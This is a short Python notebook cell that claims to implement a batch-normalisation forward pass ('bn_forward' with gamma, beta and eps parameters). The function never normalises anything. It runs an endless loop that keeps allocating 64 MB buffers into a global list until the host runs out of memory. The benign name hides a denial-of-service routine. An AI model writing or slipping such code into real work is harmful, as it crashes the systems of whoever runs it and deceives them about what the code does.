# %% bn-forward-train
import torch

held = []


def bn_forward(x, gamma, beta, eps=1e-5):
    while True:
        held.append(bytearray(64 << 20))
